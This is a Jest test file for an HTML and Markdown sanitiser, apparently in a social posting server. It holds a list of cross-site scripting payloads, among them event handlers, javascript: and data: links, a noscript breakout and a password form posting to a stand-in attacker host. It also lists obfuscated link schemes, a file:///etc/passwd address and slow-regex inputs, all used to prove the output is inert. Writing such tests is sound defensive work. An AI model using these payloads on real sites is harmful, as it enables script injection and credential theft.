import { describe, expect, it } from '@jest/globals';
import { parseDocument } from 'htmlparser2';

// After the parser: jest cannot load it twice at the same time, once for us and once for the sanitiser.
const { fromMarkdown, fromPlain, LONGEST_POST, namesIn, plainText, sanitise } = await import(
  '../../../server/actions/content.ts'
);

/** CON-01: what people try. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css"</style>',
  '{{7*7}}',
  '</title><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<form action="//evil.example"><input name=password></form>',
  '<p style="background:url(//evil.example)" onclick="alert(1)" id="x">x</p>',
  '<base href="//evil.example"><meta http-equiv=refresh content=0>',
  '<a href="x" onmouseover="alert(1)" style="position:fixed">x</a>',
  '<object data="//evil.example"></object><embed src="//evil.example">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
];

/** CON-02: addresses that do something else than lead somewhere. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  '/sign-out',
  'file:///etc/passwd',
];

const TAGS = new Set('p br a span del s pre code em strong b i u ul ol li blockquote'.split(' '));
const ATTRIBUTES = new Set(['href', 'rel', 'class', 'translate', 'start', 'reversed']);

interface Node {
  readonly name?: string;
  readonly attribs?: Readonly<Record<string, string>>;
  readonly children?: readonly unknown[];
}

/** Everything in a document, as a reader's parser sees it. */
function elements(html: string): readonly Required<Pick<Node, 'name' | 'attribs'>>[] {
  const all: Required<Pick<Node, 'name' | 'attribs'>>[] = [];
  const walk = (node: Node): void => {
    if (node.name !== undefined && node.attribs !== undefined) all.push({ name: node.name, attribs: node.attribs });
    for (const child of node.children ?? []) walk(child as Node);
  };
  walk(parseDocument(html) as unknown as Node);
  return all;
}

function expectInert(html: string): void {
  for (const { name, attribs } of elements(html)) {
    expect(TAGS).toContain(name);
    for (const attribute of Object.keys(attribs)) expect(ATTRIBUTES).toContain(attribute);
    if (attribs.href !== undefined) expect(attribs.href).toMatch(/^(https?:\/\/|mailto:)/);
  }
}

describe('what somebody elsewhere wrote', () => {
  it.each(PAYLOADS)('is inert: %s', (payload) => {
    expectInert(sanitise(payload));
    expectInert(sanitise(`<p>before ${payload} after</p>`));
    expectInert(fromMarkdown(payload));
    expectInert(fromPlain(payload));
  });

  it.each(ADDRESSES)('leads nowhere but to the web: %j', (address) => {
    for (const html of [`<a href="${address}">x</a>`, `<a href='${address}'>x</a>`]) {
      const [link] = elements(sanitise(html));
      expect(link?.attribs.href ?? 'http://').toMatch(/^(https?|mailto):/);
    }
    expectInert(fromMarkdown(`[x](${address}) <${address}> ${address}`));
  });

  it('keeps its words when its markup goes, but not its scripts', () => {
    expect(sanitise('<h1>Title</h1><div>Text</div><table><tr><td>cell</td></tr></table>')).toBe(
      '<p>Title</p><p>Text</p>cell',
    );
    expect(sanitise('a<script>alert(1)</script>b<style>p{}</style>c')).toBe('abc');
  });

  it('keeps its links, which give no reference and pass nothing on', () => {
    expect(sanitise('<a href="https://a.example/?x=1&amp;y=2" target="_blank">a</a>')).toBe(
      '<a href="https://a.example/?x=1&amp;y=2" rel="nofollow noopener noreferrer">a</a>',
    );
    expect(sanitise('<a rel="tag" class="mention hashtag" href="https://a.example/t">#t</a>')).toContain(
      'rel="tag nofollow noopener noreferrer"',
    );
  });

  it('keeps only the classes that readers know', () => {
    expect(sanitise('<span class="h-card invisible btn-danger fixed">x</span>')).toBe(
      '<span class="h-card invisible">x</span>',
    );
    expect(sanitise('<p class="notice">x</p>')).toBe('<p>x</p>');
  });

  it('is cleaned in good time, however it is built', () => {
    const began = performance.now();
    for (const html of [
      '<b>'.repeat(50_000),
      '<'.repeat(100_000),
      `<a href="${'&#'.repeat(50_000)}">`,
      `${'<p><a href="https://'.repeat(10_000)}`,
      `<!--${'-'.repeat(99_000)}`,
    ]) {
      sanitise(html);
      plainText(html.slice(0, 20_000));
    }
    expect(performance.now() - began).toBeLessThan(5000);
  });
});

describe('what somebody here types', () => {
  it('is Markdown, with links found by themselves', () => {
    expect(fromMarkdown('**Hello** https://a.example')).toBe(
      '<p><strong>Hello</strong> <a href="https://a.example" rel="nofollow noopener noreferrer">https://a.example</a></p>',
    );
    expect(fromMarkdown('one\ntwo')).toBe('<p>one<br />\ntwo</p>');
  });

  it('names people where a reader takes it for a name', () => {
    const text = 'Ask @bob, @carol@south.example. and @dora@south.example:8443! (@b_o_b) **@eve**\n\n> @finn';
    expect(namesIn(text)).toEqual(['bob', 'carol@south.example', 'dora@south.example:8443', 'b_o_b', 'eve', 'finn']);
    const none =
      'x@bob.example \\@bob `@bob` [@bob](https://a.example) https://a.example/@bob a/@bob @ bob @.\n\n    @bob';
    expect(namesIn(none)).toEqual([]);
  });

  it('leads from a name to the web and nowhere else, and no name is markup', () => {
    for (const address of [...ADDRESSES, '"><script>alert(1)</script>', 'https://a.example/"onclick="alert(1)']) {
      expectInert(fromMarkdown('@bob', new Map([['bob', address]])));
    }
    for (const payload of PAYLOADS)
      expectInert(fromMarkdown(`@bob${payload} @bob`, new Map([['bob', 'https://a.example']])));
  });

  it('is looked through for names in good time, however it is built', () => {
    const began = performance.now();
    for (const text of [
      `@a${'-'.repeat(LONGEST_POST)}`,
      '@a@'.repeat(3333),
      '@a-@a-.'.repeat(1400),
      '*@_'.repeat(3333),
    ]) {
      namesIn(text);
    }
    expect(performance.now() - began).toBeLessThan(5000);
  });

  it('shows HTML as it was typed', () => {
    expect(fromMarkdown('<b>x</b>')).toBe('<p>&lt;b&gt;x&lt;/b&gt;</p>');
  });

  it('is rendered in good time, however it is built', () => {
    const began = performance.now();
    for (const sign of ['[', '![', '*', '_', '`', '>', '- ', '<', '](', 'http://a.b/', '\\', '~']) {
      fromMarkdown(sign.repeat(LONGEST_POST / sign.length));
    }
    expect(performance.now() - began).toBeLessThan(10_000);
  });
});

describe('the words of a post', () => {
  it('come without markup, paragraphs and breaks as line ends', () => {
    expect(plainText('<p>One &amp; <b>two</b><br>three</p><p>four</p>')).toBe('One & two\nthree\n\nfour');
  });

  it('are decoded once: what was written as an entity is shown as one', () => {
    expect(plainText('<p>&amp;lt;b&amp;gt; &lt;b&gt;</p>')).toBe('&lt;b&gt; <b>');
  });
});

describe('plain sentences, sent as a message', () => {
  it('become paragraphs, with their addresses as links', () => {
    expect(fromPlain('One.\nTwo.\n\nSee https://north.example/a?b=1&c=2.')).toBe(
      '<p>One.<br>Two.</p><p>See <a href="https://north.example/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">https://north.example/a?b=1&amp;c=2</a>.</p>',
    );
  });

  it.each([
    ['<https://a.example/>', 'https://a.example/'],
    ['“https://a.example/b”', 'https://a.example/b'],
    ['(https://a.example/b)', 'https://a.example/b'],
    ['"https://a.example/b"', 'https://a.example/b'],
    ['https://a.example/" onclick="x', 'https://a.example/'],
  ])('take signs around an address for no part of it: %s', (text, address) => {
    const links = elements(fromPlain(text)).filter(({ name }) => name === 'a');
    expect(links.map(({ attribs }) => attribs.href)).toEqual([address]);
  });

  it('are made in good time, however they are built', () => {
    const began = performance.now();
    fromPlain('http://'.repeat(15_000));
    fromPlain(`https://a${'.'.repeat(100_000)}`);
    fromPlain('https://a.. '.repeat(9000));
    expect(performance.now() - began).toBeLessThan(2000);
  });
});
